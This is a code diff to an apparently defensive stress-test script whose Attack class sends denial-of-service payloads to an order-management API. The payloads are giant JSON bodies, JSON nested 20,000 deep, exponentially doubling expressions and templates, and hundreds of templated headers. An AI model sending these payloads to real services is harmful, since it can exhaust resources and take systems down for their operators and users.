@@ -23,12 +23,14 @@ from http.client import HTTPConnection, HTTPException
 from itertools import repeat
 from typing import Any, Self
 
-PAUSE = 1.0
+PAUSE = 3.0
 """Seconds before the same is tried again."""
 
-UNKNOWN_FIELDS = "{" + ",".join(f'"f{number}":1' for number in range(800_000)) + "}"
-NO_LINES = '{"lines": [' + ",".join(f'{{"line_no": {number}, "x": 1, "qty": "y"}}' for number in range(90_000)) + "]}"
-DEEP = '{"a":' * 20_000 + "1" + "}" * 20_000
+UNKNOWN_FIELDS = ("{" + ",".join(f'"f{number}":1' for number in range(800_000)) + "}").encode()
+NO_LINES = (
+    '{"lines": [' + ",".join(f'{{"line_no": {number}, "x": 1, "qty": "y"}}' for number in range(90_000)) + "]}"
+).encode()
+DEEP = b'{"a":' * 20_000 + b"1" + b"}" * 20_000
 DOUBLING_EXPRESSION = "[" + "|".join(repeat("[@,@][]", 120)) + "]"
 DOUBLING_TEMPLATE = "{% set a = [order, order] %}" + "{% set a = [a, a] %}" * 60 + "{{ a }}"
 MANY_HEADERS = "\n".join(f"X-{number}: {{{{ order.id }}}}" for number in range(800))
@@ -236,7 +238,7 @@ class Attack:
 
     def nest(self) -> None:
         """Send what is nested 20,000 deep."""
-        self._send("PATCH", "/organization", f'{{"settings": {DEEP}}}')
+        self._send("PATCH", "/organization", b'{"settings": ' + DEEP + b"}")
         self._send("POST", "/draft-orders", DEEP)
 
     def send_large_orders(self) -> None:
@@ -265,9 +267,9 @@ class Attack:
         self._post("/connectors/test", {"connector_type": connector_type, "config": config})
 
     def _post(self, path: str, body: object, key: str | None = None) -> None:
-        self._send("POST", path, json.dumps(body), key)
+        self._send("POST", path, json.dumps(body).encode(), key)
 
-    def _send(self, method: str, path: str, body: str, key: str | None = None) -> None:
+    def _send(self, method: str, path: str, body: bytes, key: str | None = None) -> None:
         """Send a request over a connection of its own, and read what it answers."""
         headers = {"Content-Type": "application/json"}
         if key is None or key:
